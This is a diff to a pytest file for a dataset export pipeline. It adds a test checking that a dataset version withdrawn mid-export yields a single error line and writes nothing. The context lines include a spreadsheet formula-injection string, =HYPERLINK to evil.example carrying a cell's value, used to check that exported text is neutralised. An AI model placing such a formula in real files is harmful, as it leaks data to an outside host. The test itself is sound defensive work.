@@ -431,3 +431,34 @@ def test_text_a_spreadsheet_would_take_for_a_formula_is_written_as_text_and_read
     assert not [(k, v) for row in listed.values() for k, v in row.items() if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
     export_version(version, "webdataset", tmp_path / "wds")             # the attribution shows the text as it was
     assert '| =HYPERLINK("http://evil.example/"&amp;A1,"x") |' in (tmp_path / "wds" / "ATTRIBUTION.md").read_text()
+
+
+@pytest.mark.parametrize("when", ["mid-copy", "before-rename"])
+def test_a_version_withdrawn_while_it_is_exported_is_one_line_and_nothing_is_written(version, tmp_path, monkeypatch,
+                                                                                      when):
+    """`mlc withdraw` takes no lock an export holds, and always wins (the concurrency28 audit): a real
+    withdrawal of the version run after the export's first file is copied (then an 18-line
+    FileNotFoundError traceback), or once every file is written, before the export is put in place
+    (then an export of a version already withdrawn, which the withdrawal could not list). Both: one
+    line saying so, and nothing written."""
+    from mlc_pipeline.dataset import export as export_module
+    from mlc_pipeline.withdrawal import withdraw_folder
+    withdraw = lambda: withdraw_folder(version.parent, version.name, "audit")
+    if when == "mid-copy":
+        copy = shutil.copyfile
+
+        def copy_then_withdraw(src, dst, *args, **kwargs):
+            copied = copy(src, dst, *args, **kwargs)
+            if version.is_dir():
+                withdraw()
+            return copied
+        monkeypatch.setattr(export_module.shutil, "copyfile", copy_then_withdraw)
+    else:                           # the export's last check of --out comes after every file is written
+        check, calls = export_module.check_destination, []
+        monkeypatch.setattr(export_module, "check_destination", lambda *args: (
+            calls.append(1), len(calls) == 2 and withdraw(), check(*args)))
+    out = tmp_path / "out"
+    with pytest.raises(ExportError, match=r"^default v1 was withdrawn \(audit\) while it was being exported; "
+                                          r"nothing was written to .*out$"):
+        export_version(version, "imagefolder", out)
+    assert not out.exists() and leftovers(tmp_path) == [] and not version.exists()
